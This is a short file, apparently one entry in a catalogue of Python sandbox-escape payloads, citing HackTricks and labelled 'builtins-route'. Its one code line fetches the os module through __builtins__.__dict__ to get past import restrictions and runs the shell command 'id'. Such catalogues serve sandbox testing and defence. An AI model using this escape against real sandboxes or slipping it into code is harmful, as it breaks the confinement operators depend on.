# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (__builtins__.__dict__['__import__'])
# Family: builtins-route
# What: __builtins__.__dict__['__import__']('os')
__builtins__.__dict__["__import__"]("os").system("id")
